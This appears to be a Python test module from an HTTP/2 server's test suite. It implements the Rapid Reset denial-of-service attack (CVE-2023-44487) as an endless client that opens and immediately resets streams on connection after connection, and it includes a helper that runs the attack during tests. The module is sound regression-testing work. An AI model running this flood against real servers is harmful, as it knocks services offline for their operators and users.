"""A client that opens calls and resets them at once, as fast as it can (CVE-2023-44487).

`python -m tests.transport.rapid_reset HOST:PORT PATH` goes on until it is ended. It prints a line
once it has sent the first resets. When its connection is closed, it opens the next one.
"""

from __future__ import annotations

import asyncio
import struct
import sys
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, Final

from tests.http2 import PREFACE, Flag, Kind, encode_frame, encode_headers

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

_CALLS_PER_WRITE: Final = 100
_LAST_STREAM: Final = 2**31 - 1
_CANCEL: Final = struct.pack(">I", 8)


@asynccontextmanager
async def run_rapid_resets(address: str, path: str) -> AsyncIterator[None]:
    """Attack an address from a process of its own, from before the block begins to its end."""
    process = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "tests.transport.rapid_reset", address, path),
        stdout=asyncio.subprocess.PIPE,
    )
    try:
        assert process.stdout is not None
        assert await process.stdout.readline() == b"attacking\n"
        yield
        assert process.returncode is None, "the attack ended by itself"
    finally:
        if process.returncode is None:
            process.kill()
        await process.wait()


async def attack(address: str, path: str) -> None:
    """Open connections, one after the other, and open and reset calls on each."""
    host, _, port = address.rpartition(":")
    headers = encode_headers(path.encode())
    is_first = True
    while True:
        reader, writer = await asyncio.open_connection(host, int(port))
        reading = asyncio.ensure_future(_ignore(reader))
        with suppress(ConnectionError):
            writer.write(PREFACE + encode_frame(Kind.SETTINGS))
            for first in range(1, _LAST_STREAM, 2 * _CALLS_PER_WRITE):
                streams = range(first, first + 2 * _CALLS_PER_WRITE, 2)
                writer.write(b"".join(_open_and_reset(each, headers) for each in streams))
                await writer.drain()
                if is_first:
                    print("attacking", flush=True)  # noqa: T201  # the process that waits for it
                    is_first = False
                if reading.done():
                    break
                await asyncio.sleep(0)  # let it read
        writer.close()
        await reading


def _open_and_reset(stream: int, headers: bytes) -> bytes:
    opening = encode_frame(Kind.HEADERS, stream, headers, Flag.END_HEADERS)
    return opening + encode_frame(Kind.RST_STREAM, stream, _CANCEL)


async def _ignore(reader: asyncio.StreamReader) -> None:
    with suppress(ConnectionError):
        while await reader.read(1 << 16):
            pass


if __name__ == "__main__":
    asyncio.run(attack(*sys.argv[1:]))
